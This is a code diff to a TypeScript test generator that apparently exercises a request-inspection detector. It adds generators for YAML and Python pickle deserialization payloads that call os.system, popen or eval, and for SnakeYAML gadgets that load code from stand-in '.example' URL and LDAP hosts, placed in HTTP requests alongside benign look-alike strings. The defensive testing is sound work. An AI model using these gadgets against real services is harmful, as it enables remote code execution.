@@ -86,7 +86,29 @@ const SERIAL: Gen[] = [
   (r) => "/wEy" + Buffer.concat([bytes(r, 30 + r(60))]).toString("base64"), // ViewState (LosFormatter, MAC-less)
 ];
 
-export const FAMILIES: Record<string, Gen[]> = { spel: SPEL, ognl: OGNL, "mvel-el": MVEL_EL, "razor-go": RAZOR_GO, serial: SERIAL };
+/** A Python pickle (protocol 0 text) that imports a callable and calls it: GLOBAL, MARK, args, TUPLE, REDUCE, STOP. */
+const pickle0 = (r: R) => `c${pickR(r, ["os", "posix", "subprocess", "builtins", "__builtin__", "nt"])}\n${pickR(r, ["system", "popen", "check_output", "eval", "exec"])}\n(${pickR(r, ["S", "V"])}'${cmd(r)}'\ntR.`;
+/** The same call as a binary pickle (protocol 2-5): PROTO, GLOBAL, args, TUPLE1, REDUCE, STOP. */
+function pickleBinary(r: R): string {
+  const mod = pickR(r, ["os", "posix", "subprocess"]);
+  const fn = pickR(r, ["system", "popen"]);
+  const arg = Buffer.from(cmd(r));
+  const proto = 2 + r(4);
+  return Buffer.concat([Buffer.from([0x80, proto]), Buffer.from(`c${mod}\n${fn}\n`), Buffer.from([0x58]), Buffer.from(Uint32Array.of(arg.length).buffer), arg, Buffer.from([0x85, 0x52, 0x2e])]).toString("base64");
+}
+const SCRIPT_SERIAL: Gen[] = [
+  (r) => `!!python/object/apply:${pickR(r, ["os.system", "subprocess.check_output", "os.popen", "builtins.eval"])} [${JSON.stringify(cmd(r))}]`,
+  (r) => `${word(r)}: !!python/object/new:${pickR(r, ["subprocess.Popen", "os.system", "type"])}\n  args: [${JSON.stringify(cmd(r))}]`,
+  (r) => `- !ruby/object:Gem::${pickR(r, ["Installer", "Requirement", "SpecFetcher", "Package::TarReader"])}\n  i: ${word(r)}`,
+  (r) => `--- !ruby/hash:${pickR(r, ["ActionController::Routing::RouteSet::NamedRouteCollection", "Gem::Requirement"])}\n${word(r)}: x`,
+  (r) => `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://${word(r)}.example/\"]]]]`,
+  (r) => `{${word(r)}: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://${word(r)}.example/a", autoCommit: true}}`,
+  (r) => pickle0(r),
+  (r) => Buffer.from(pickle0(r)).toString("base64"),
+  (r) => pickleBinary(r),
+];
+
+export const FAMILIES: Record<string, Gen[]> = { spel: SPEL, ognl: OGNL, "mvel-el": MVEL_EL, "razor-go": RAZOR_GO, serial: SERIAL, "yaml-pickle": SCRIPT_SERIAL };
 const NAMES = Object.keys(FAMILIES);
 
 /** Where a tool puts it: positions.ts, a cookie named like a session, a raw serialised body, a ViewState field. */
@@ -94,6 +116,7 @@ function placeExpr(family: string, value: string, k: number, n: number): Req {
   const POS: Position[] = ["query", "form", "json", "cookie", "header"];
   if (k < POS.length) return place(value, POS[k], n, n % 4 === 0);
   const host: [string, string] = ["host", "svc.local"];
+  if (family === "yaml-pickle" && k === 5) return { method: "POST", path: "/api/config", headers: [host, ["content-type", value.startsWith("!") || value.includes(": ") || value.startsWith("-") ? "application/x-yaml" : "application/octet-stream"]], body: value };
   if (family === "serial" && k === 5) {
     if (value.startsWith("/wEy")) return { method: "POST", path: "/Default.aspx", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `__VIEWSTATE=${encodeURIComponent(value)}&__VIEWSTATEGENERATOR=CA0B0334&btn=Go` };
     return { method: "POST", path: "/api/import", headers: [host, ["content-type", value.startsWith("{") ? "application/json" : "text/plain"]], body: value };
@@ -108,7 +131,9 @@ export const exprAttack: fc.Arbitrary<ExprAttack> = fc.record({ seed: fc.nat(), 
   const r = rng(seed);
   const family = NAMES[f];
   const list = FAMILIES[family];
-  const value = list[g % list.length](r);
+  let value = list[g % list.length](r);
+  // (a header holds no line feed: a text pickle goes there base64-encoded)
+  if (k === 4 && /^c\w+\n/.test(value)) value = Buffer.from(value).toString("base64");
   return { value, family, req: placeExpr(family, value, k, n), pos: `${family}/${k}` };
 });
 
@@ -117,7 +142,8 @@ export const exprBenign: fc.Arbitrary<string> = fc.constantFrom(
   "Hello ${name}, your order #{id} shipped", "T(ea) for two", "see the #context section", "@media print { body { margin: 0 } }", "user@example.com",
   "support@System.example.com", "Follow @Microsoft.Teams.Dev for news", "@System.IO is where files live", "#session[2] notes", "see #request-42",
   "/wEPDwUKMTIzNDU2Nzg5MA9kFgICAw9kFgICAQ8PFgIeBFRleHQFBUhlbGxvZGRk", "AAAAAAAAAAAAAAAAAAAAAA==", "AAEAAAB0ZXN0", "{{ len }} returns a length", "{{ index }}",
-  "${sessionScope} is an EL object", "pageContext is documented in JSP 2.0", "O:5 is the room number", "a:1 ratio", "{{ .Title }} - {{ .Date }}",
+  "${sessionScope} is an EL object", "key: !!str 123", "data: !!binary R0lGODlh", "Value: !Ref MyBucket", "Wow!!this/that is great", "cats.", "gAAAAABhZ2VudF9pZA==",
+  "config: !include conf/app.yaml", "great!!! see a/b.c",  "pageContext is documented in JSP 2.0", "O:5 is the room number", "a:1 ratio", "{{ .Title }} - {{ .Date }}",
   "{{ printf }} explained in the Go docs", "rO0 is not a word", "aced the exam", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
   "@Model.Name", "Price: @(item.Price)", "System.Diagnostics is a .NET namespace", "process start time: 10:00", "Runtime error in line 3", "/wE is a prefix",
 );
